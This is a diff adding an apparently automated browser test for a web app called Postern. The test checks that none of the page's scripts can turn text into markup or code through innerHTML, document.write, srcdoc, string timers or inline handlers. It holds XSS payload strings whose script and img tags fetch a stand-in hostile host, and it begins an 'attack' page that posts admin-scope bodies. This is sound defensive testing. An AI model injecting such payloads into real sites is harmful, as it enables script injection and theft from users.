@@ -121,6 +121,49 @@ describe.runIf(hasChromium)('a browser that is signed in', () => {
     await page.close();
   }, 240_000);
 
+  it('lets no script of Postern’s own pages make markup or code of a text, whatever it wanted', async () => {
+    const { page, wrong } = await openWatched();
+    await page.goto('/messages');
+    await page.getByRole('heading', { level: 1 }).waitFor();
+    const site = evilAt('127.0.0.1');
+    const made = await page.evaluate((site) => {
+      const hostile = `<img src=x onerror="fetch('${site}/ran')"><script>fetch('${site}/ran')</script>`;
+      const ways: Record<string, () => unknown> = {
+        innerHTML: () => Object.assign(document.createElement('div'), { innerHTML: hostile }),
+        outerHTML: () => Object.assign(document.body.appendChild(document.createElement('i')), { outerHTML: hostile }),
+        adjacent: () => document.body.insertAdjacentHTML('beforeend', hostile),
+        write: () => document.write(hostile),
+        srcdoc: () => Object.assign(document.createElement('iframe'), { srcdoc: hostile }),
+        parser: () => new DOMParser().parseFromString(hostile, 'text/html'),
+        scriptText: () =>
+          document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran=1' })),
+        scriptSource: () => Object.assign(document.createElement('script'), { src: `${site}/ran` }),
+        named: () => window.setTimeout('window.ran=1', 0),
+        policy: () =>
+          (
+            window as never as { trustedTypes: { createPolicy: (...of: unknown[]) => unknown } }
+          ).trustedTypes.createPolicy('mine', {}),
+        inline: () => document.createElement('div').setAttribute('onclick', 'window.ran=1'),
+      };
+      return Object.entries(ways).flatMap(([name, way]) => {
+        try {
+          way();
+          return [name];
+        } catch {
+          return [];
+        }
+      });
+    }, site);
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
+    expect(made).toEqual([]);
+    expect([hits, wrong, await page.evaluate('window.ran')]).toEqual([[], [], undefined]);
+    // Text that is none stays as it was.
+    expect(
+      await page.evaluate(() => Object.assign(document.createElement('style'), { innerHTML: 'a > b {}' }).textContent),
+    ).toBe('a > b {}');
+    await page.close();
+  });
+
   /** A page that tries all that pages elsewhere can try. */
   const attack = (target: string) => `<!doctype html><body><script>
     const bodies = { json: '{"name":"Evil","scopes":["admin"]}', form: 'name=Evil&scopes=admin' };
